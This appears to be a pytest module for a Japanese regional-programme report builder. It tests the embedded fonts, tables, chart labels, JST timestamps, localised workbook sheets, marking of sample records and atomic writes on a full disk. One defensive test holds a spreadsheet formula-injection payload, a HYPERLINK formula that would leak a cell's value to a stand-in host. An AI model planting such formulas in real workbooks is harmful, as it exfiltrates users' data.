"""Issue 9, "a report that reads well": the font inside report.html, the appendix as a table,
readable forest-plot labels, alt text on every image, JST timestamps, a workbook in the reader's
language with a note on every empty sheet and every year on the timeline, sample records left
out (or marked), and report files that are whole or absent after a failed write.

Each test names the old behaviour it would have failed on. The bundled report is built once per
module (``built``), without the PDF; the PDF's atomic write is checked on a one-line page.
"""

from __future__ import annotations

import base64
import builtins
import datetime as dt
import errno
import io
import os
import re
import unicodedata
from pathlib import Path
from typing import Any

import lxml.html
import openpyxl
import pandas as pd
import pytest

from chiiki.i18n import translator
from chiiki.report import ReportInputs, build_report
from chiiki.report.labels import COLUMNS
from chiiki.report.pdf import FONT_FAMILY, visible_text

# 2026-12-01 15:30 UTC is already 2 December in Japan (00:30 JST)
GENERATED = dt.datetime(2026, 12, 1, 15, 30, tzinfo=dt.UTC)


@pytest.fixture(scope="module")
def inputs(bundled_reports: Any) -> ReportInputs:
    b = bundled_reports
    return ReportInputs(programs=b.programs, adoptions=b.adoptions, analysis=b.analysis, hearings=b.hearings)


@pytest.fixture(scope="module")
def built(inputs: ReportInputs, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """The bundled report in both languages (HTML + XLSX), generated at :data:`GENERATED`."""
    out = {}
    for lang in ("ja", "en"):
        out[lang] = build_report(inputs, tmp_path_factory.mktemp(lang), lang, ("html", "xlsx"), generated=GENERATED)
    return out


def _doc(result: Any) -> Any:
    return lxml.html.document_fromstring(result.html.read_text(encoding="utf-8"))


# -- 1. the font travels inside the HTML ---------------------------------------------------------
def test_html_carries_the_ipaex_glyphs_it_needs(built: dict[str, Any]) -> None:
    """Old: report.html had no @font-face at all (a machine without a CJK font showed tofu)."""
    from fontTools.ttLib import TTFont

    for result in built.values():
        html = result.html.read_text(encoding="utf-8")
        css = "".join(lxml.html.document_fromstring(html).xpath("//style/text()"))
        faces = re.findall(r"@font-face\s*{([^}]*)}", css)
        assert len(faces) == 1 and f"font-family: '{FONT_FAMILY}'" in faces[0]
        match = re.search(r"url\('data:font/ttf;base64,([A-Za-z0-9+/=]+)'\)", faces[0])
        assert match, "the font is a data: URI, not a path of this machine or a file beside the report"
        font = TTFont(io.BytesIO(base64.b64decode(match.group(1))))
        assert "IPAex" in font["name"].getDebugName(1)
        cmap = font.getBestCmap()
        text = visible_text(html)
        missing = {
            c for c in text if not c.isspace() and unicodedata.category(c) not in ("Cc", "Cf") and ord(c) not in cmap
        }
        assert not missing
        assert any(_cjk(c) for c in text) and all(ord(c) in cmap for c in text if _cjk(c))  # CJK glyphs are in
        assert len(match.group(1)) < 1_000_000  # a subset, not the 4 MB font
        assert "file://" not in html


# -- 3. appendix, forest plot, alt text, JST --------------------------------------------------
def test_appendix_is_a_table_with_headers(built: dict[str, Any], bundled_reports: Any) -> None:
    """Old: one ``<div>`` per selection, its fields joined with " | "."""
    for lang, result in built.items():
        tr = translator(lang)
        section = _doc(result).get_element_by_id("appendix")
        tables = section.findall(".//table")
        assert len(tables) == 1
        heads = [th.text_content() for th in tables[0].findall("./thead/tr/th")]
        assert heads[0] == tr.gettext("Selection ID") and tr.gettext("Successor") in heads and len(heads) == 8
        rows = tables[0].findall("./tbody/tr")
        assert len(rows) == len(bundled_reports.adoptions)
        assert all(len(r.findall("./th")) + len(r.findall("./td")) == len(heads) for r in rows)
        assert " | " not in section.text_content()
        ids = [r.find("./th").text_content() for r in rows]
        assert sorted(ids) == sorted(bundled_reports.adoptions["adoption_id"])


def _long_rows(bundled_reports: Any) -> pd.DataFrame:
    from chiiki.report.charts import forest_rows

    rows, _ = forest_rows(bundled_reports.analysis.key_factors)
    rows = rows.head(6).copy()
    rows["factor_label"] = [
        "中核機関が地方公共団体の外郭団体である（財団法人・公益財団法人を含む）かつ" * 2 + str(i)
        for i in range(len(rows))
    ]
    rows["outcome_label"] = "後継事業への採択（事業終了後5年以内・同一拠点）"
    return rows


def test_forest_plot_labels_are_wrapped_inside_the_figure(bundled_reports: Any) -> None:
    """Old: one line per label; a long one ran off the figure's left edge and the saved PNG
    (``bbox_inches='tight'``) grew wider than the figure, so the page shrank it to illegible."""
    from PIL import Image

    from chiiki.report import charts

    rows = _long_rows(bundled_reports)
    tr = translator("ja")
    png = charts.forest_plot(rows, tr)
    assert png is not None
    width = Image.open(io.BytesIO(png)).size[0]
    assert width <= charts.FOREST_WIDTH * charts.DPI + 2
    fig = charts.forest_figure(rows, tr)
    fig.canvas.draw()
    renderer = fig.canvas.get_renderer()
    box = fig.bbox
    labels = [t for t in fig.axes[0].get_yticklabels() if t.get_text()]
    assert len(labels) == len(rows)
    for label in labels:
        extent = label.get_window_extent(renderer)
        assert extent.x0 >= box.x0 and extent.x1 <= box.x1 and extent.y0 >= box.y0 and extent.y1 <= box.y1
        assert all(
            sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in line) <= charts.LABEL_WIDTH + 2
            for line in label.get_text().split("\n")
        )
    charts.pyplot().close(fig)


def test_wrap_label_keeps_every_character() -> None:
    from chiiki.report.charts import wrap_label

    text = "地域イノベーション戦略支援プログラム（国際競争力強化地域）・後継事業"
    wrapped = wrap_label(text, 20)
    assert wrapped.replace("\n", "") == text and len(wrapped.split("\n")) > 1


def _cjk(text: str) -> bool:
    return any(unicodedata.east_asian_width(c) == "W" for c in text)


def test_every_image_has_a_describing_alt_in_the_report_language(built: dict[str, Any]) -> None:
    """Old: the alt text repeated the chapter heading above the image (no description)."""
    for lang, result in built.items():
        doc = _doc(result)
        headings = {h.text_content().strip() for h in doc.xpath("//h1|//h2|//h3|//h4")}
        images = doc.xpath("//img")
        assert len(images) >= 4
        for img in images:
            alt = (img.get("alt") or "").strip()
            assert alt and alt not in headings
            assert _cjk(alt) if lang == "ja" else alt.isascii() or not _cjk(alt.split(":")[0])


def test_times_are_japan_standard_time_with_the_zone(built: dict[str, Any]) -> None:
    """Old: "2026年12月1日 15:30 UTC" — the study group's date was a day off after 09:00 JST."""
    html = built["ja"].html.read_text(encoding="utf-8")
    doc = lxml.html.document_fromstring(html)
    meta = doc.xpath("//div[@class='title-page']//p[@class='meta']")[0].text_content()
    assert "2026年12月2日 00:30 JST (UTC+09:00)" in meta
    assert doc.xpath("//meta[@name='dcterms.created']/@content") == ["2026-12-02T00:30:00+09:00"]
    assert "15:30" not in meta
    en = _doc(built["en"]).xpath("//div[@class='title-page']//p[@class='meta']")[0].text_content()
    assert "December 2, 2026 00:30 JST" in en
    params = dict(list(openpyxl.load_workbook(built["ja"].xlsx)["パラメータ"].values)[1:])
    assert params["report_date"] == "2026-12-02 00:30 JST (UTC+09:00)" and params["time_zone"] == "Asia/Tokyo"


# -- 4. report.xlsx ---------------------------------------------------------------------------
RAW_KEYS = set(COLUMNS) - {"n"}  # "n" is the header in both languages


def test_workbook_headers_in_the_report_language(built: dict[str, Any]) -> None:
    """Old: every header was the engine's column key (adoption_id, source_urls, n_budget …)."""
    for lang, first in (("ja", "採択ID"), ("en", "Selection ID")):
        wb = openpyxl.load_workbook(built[lang].xlsx)
        sheet = wb[translator(lang).gettext("Selections and sources")]
        header = [c.value for c in sheet[1]]
        assert header[0] == first
        for ws in wb.worksheets:
            for cell in ws[1]:
                assert cell.value not in RAW_KEYS, (ws.title, cell.value)
        if lang == "ja":
            assert all(_cjk(str(c.value)) for c in sheet[1])
            assert "ヒアリング一覧" in wb.sheetnames


def test_empty_sheets_say_why(built: dict[str, Any], bundled_reports: Any) -> None:
    """Old: an empty sheet had its header (or nothing at all) and no word on why."""
    ja = openpyxl.load_workbook(built["ja"].xlsx)
    empty = [ws for ws in ja.worksheets if ws.max_row <= 2 and str(ws["A2"].value or "").startswith("行なし")]
    assert empty, "the bundled analysis leaves the QCA sheets empty"
    reason = translator("ja").render(bundled_reports.analysis.qca_reason)
    assert ja["真理表"]["A2"].value == f"行なし：{reason}"
    for ws in ja.worksheets:
        if ws.max_row == 1:
            pytest.fail(f"{ws.title} has no rows and no note")
    en = openpyxl.load_workbook(built["en"].xlsx)
    assert str(en["Truth table"]["A2"].value).startswith("No rows: ")
    assert en["Truth table"]["A1"].value == "Note"


def test_empty_workbook_without_analysis_or_hearings(tmp_path: Path) -> None:
    from chiiki.i18n import msg
    from chiiki.report.inputs import empty_frames

    programs, adoptions = empty_frames()
    error = msg("report.no_analysis", "warning", detail="ValueError: no selections")
    result = build_report(ReportInputs(programs, adoptions, analysis_error=error), tmp_path, "ja", ("xlsx",))
    wb = openpyxl.load_workbook(result.xlsx)
    assert wb["重要因子"]["A2"].value.startswith("行なし：分析を実行できませんでした")
    assert wb["ヒアリング一覧"]["A2"].value.startswith("行なし：ヒアリングも文書も")
    assert wb["年度別採択数"]["A2"].value == "行なし：開始年度が判明している採択がありません。"


def test_timeline_sheet_has_every_year(built: dict[str, Any], bundled_reports: Any) -> None:
    """Old: only the years with a selection were columns (1998, 2004, 2005 were missing)."""
    for lang in ("ja", "en"):
        rows = list(openpyxl.load_workbook(built[lang].xlsx)[translator(lang).gettext("Selections per FY")].values)
        years = [int(y) for y in rows[0][1:]]
        starts = bundled_reports.adoptions["start_fy"].dropna().astype(int)
        assert years == list(range(int(starts.min()), int(starts.max()) + 1))
        totals = {y: sum(int(r[i + 1]) for r in rows[1:]) for i, y in enumerate(years)}
        counts = starts.value_counts()
        assert totals == {y: int(counts.get(y, 0)) for y in years}
        assert 0 in totals.values()


def test_workbook_cells_stay_formula_safe(inputs: ReportInputs, tmp_path: Path) -> None:
    """Kept from issue 9 item 4 (passes before and after): a title starting with "=" is text."""
    import dataclasses

    bad = '=HYPERLINK("http://example.invalid/?leak="&A1,"x")'
    adoptions = inputs.adoptions.copy()
    adoptions.loc[adoptions.index[0], "title"] = bad
    result = build_report(
        dataclasses.replace(inputs, adoptions=adoptions, analysis=None, hearings=None), tmp_path, "en", ("xlsx",)
    )
    ws = openpyxl.load_workbook(result.xlsx)["Selections and sources"]
    col = [c.value for c in ws[1]].index("Title")
    cells = [row[col] for row in ws.iter_rows(min_row=2) if row[col].value == bad]
    assert len(cells) == 1 and cells[0].data_type == "s"


# -- 5. sample records --------------------------------------------------------------------------
def _chapter(rows: list[dict[str, Any]], messages: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    return {
        "overview": {
            "columns": ["region", "organizations", "date", "hubs", "documents", "is_sample", "sample"],
            "rows": rows,
        },
        "guide": [],
        "codes": {"columns": ["code"], "rows": [], "warnings": []},
        "n_documents": len(rows),
        "figures": [],
        "messages": messages or [],
        "source": {"code": "hearings.chapter_source", "severity": "info", "params": {}},
    }


ROW = {"organizations": ["A財団"], "date": "2025年3月", "hubs": [], "documents": 1}


def test_sample_hearings_are_marked_in_table_1(inputs: ReportInputs, tmp_path: Path) -> None:
    """Old: a sample hearing's row in Table 1 looked like any other."""
    import dataclasses

    chapter = _chapter(
        [
            {**ROW, "region": "実在地域", "is_sample": False, "sample": ""},
            {**ROW, "region": "架空地域", "is_sample": True, "sample": "【サンプル】"},
        ]
    )
    result = build_report(
        dataclasses.replace(inputs, hearings=chapter, include_samples=True), tmp_path, "ja", ("html", "xlsx")
    )
    doc = _doc(result)
    table = doc.get_element_by_id("hearings").findall(".//table")[0]
    cells = [r.findall("./td")[0].text_content() for r in table.findall("./tbody/tr")]
    assert cells == ["実在地域", "【サンプル】 架空地域"]
    assert "【サンプル】と明示しています" in doc.get_element_by_id("summary").text_content()
    rows = list(openpyxl.load_workbook(result.xlsx)["ヒアリング一覧"].values)
    assert [r[-1] for r in rows[1:]] == [None, "【サンプル】"]


def test_report_says_how_many_samples_it_left_out(inputs: ReportInputs, tmp_path: Path) -> None:
    """Old: nothing said that sample records were (or were not) in the report."""
    import dataclasses

    left = {"code": "hearings.samples_left_out", "severity": "info", "params": {"hearings": 2, "documents": 3}}
    chapter = _chapter([{**ROW, "region": "実在地域", "is_sample": False, "sample": ""}], [left])
    result = build_report(dataclasses.replace(inputs, hearings=chapter), tmp_path, "en", ("html",))
    doc = _doc(result)
    said = "Sample records left out of this report: 2 hearing(s) and 3 document(s)"
    assert said in doc.get_element_by_id("summary").text_content()
    assert said in doc.xpath("//div[@class='title-page']")[0].text_content()
    # the Workbench's count wins over the chapter's (the chapter may be left out entirely)
    result = build_report(
        dataclasses.replace(inputs, hearings=None, samples_left_out={"hearings": 1, "documents": 0}),
        tmp_path / "b",
        "en",
        ("html",),
    )
    assert "1 hearing(s) and 0 document(s)" in _doc(result).get_element_by_id("summary").text_content()


# -- 6. atomic outputs --------------------------------------------------------------------------
class _DiskFull:
    """A file whose writes fail with ENOSPC once ``limit`` bytes have gone to disk."""

    def __init__(self, fh: Any, limit: int) -> None:
        self._fh, self._left = fh, limit

    def write(self, data: Any) -> int:
        if len(data) > self._left:
            self._fh.write(data[: self._left])
            self._fh.flush()
            self._left = 0
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        self._left -= len(data)
        return self._fh.write(data)

    def __enter__(self) -> _DiskFull:
        return self

    def __exit__(self, *exc: object) -> None:
        self._fh.close()

    def __iter__(self) -> Any:
        return iter(self._fh)

    def __getattr__(self, name: str) -> Any:
        return getattr(self._fh, name)


@pytest.fixture
def disk_full(monkeypatch: pytest.MonkeyPatch) -> Any:
    """``disk_full("report.html")``: files opened for writing whose name holds that text fail
    after 2,000 bytes, as on a full disk (through ``open``, ``io.open`` and ``Path.open``)."""
    real = io.open

    def arm(name: str, limit: int = 2000) -> None:
        def fake_open(file: Any, mode: str = "r", *args: Any, **kwargs: Any) -> Any:
            fh = real(file, mode, *args, **kwargs)
            writing = any(m in mode for m in "wax+")
            if writing and isinstance(file, str | os.PathLike) and name in os.fspath(file):
                return _DiskFull(fh, limit)
            return fh

        monkeypatch.setattr(io, "open", fake_open)
        monkeypatch.setattr(builtins, "open", fake_open)

    return arm


def _assert_intact(folder: Path, name: str, old: bytes) -> None:
    assert (folder / name).read_bytes() == old
    assert sorted(p.name for p in folder.iterdir()) == [name], "no partial or temporary file is left"


def test_full_disk_keeps_the_previous_report_html(inputs: ReportInputs, tmp_path: Path, disk_full: Any) -> None:
    """Old: ``Path.write_text`` wrote report.html in place; a full disk left it truncated."""
    old = b"<html>the previous report</html>"
    (tmp_path / "report.html").write_bytes(old)
    disk_full("report.html")
    with pytest.raises(OSError) as info:
        build_report(inputs, tmp_path, "ja", ("html",), generated=GENERATED)
    assert info.value.errno == errno.ENOSPC
    _assert_intact(tmp_path, "report.html", old)


def test_full_disk_keeps_the_previous_workbook(tmp_path: Path, disk_full: Any) -> None:
    """Old: pandas' ExcelWriter wrote report.xlsx in place (a truncated zip after ENOSPC)."""
    from chiiki.report.xlsx import write_xlsx

    old = b"previous workbook"
    (tmp_path / "report.xlsx").write_bytes(old)
    frame = pd.DataFrame({"a": [f"値{i}" * 50 for i in range(500)]})
    disk_full("report.xlsx")
    with pytest.raises(OSError):
        write_xlsx({"s": frame}, tmp_path / "report.xlsx")
    _assert_intact(tmp_path, "report.xlsx", old)


def test_full_disk_keeps_the_previous_pdf(tmp_path: Path, disk_full: Any) -> None:
    """Old: ``Path.write_bytes`` wrote report.pdf in place."""
    from chiiki.report.pdf import font_face_css, write_pdf

    old = b"%PDF previous"
    (tmp_path / "report.pdf").write_bytes(old)
    disk_full("report.pdf")
    with pytest.raises(OSError):
        write_pdf(
            f"<html><head><style>{font_face_css()}</style></head><body><p>調査報告書</p></body></html>",
            tmp_path / "report.pdf",
        )
    _assert_intact(tmp_path, "report.pdf", old)
